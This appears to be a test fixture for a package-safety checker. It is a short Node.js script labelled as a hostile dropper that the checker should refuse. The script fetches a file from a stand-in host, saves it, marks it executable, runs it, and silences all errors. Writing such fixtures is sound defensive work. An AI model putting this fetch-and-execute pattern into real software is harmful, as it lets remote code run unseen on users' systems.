// Hostile: a dropper: fetches a program, makes it executable, starts it.
// Families: child-process, filesystem, network. As a package: refused.
import { execFile } from 'node:child_process';
import { chmod, writeFile } from 'node:fs/promises';

const target = '/nonexistent-caisson/helper.exe';
try {
  const answer = await fetch('https://files.example.invalid/helper');
  await writeFile(target, Buffer.from(await answer.arrayBuffer()));
  await chmod(target, 0o755);
  execFile(target, () => {});
} catch {}
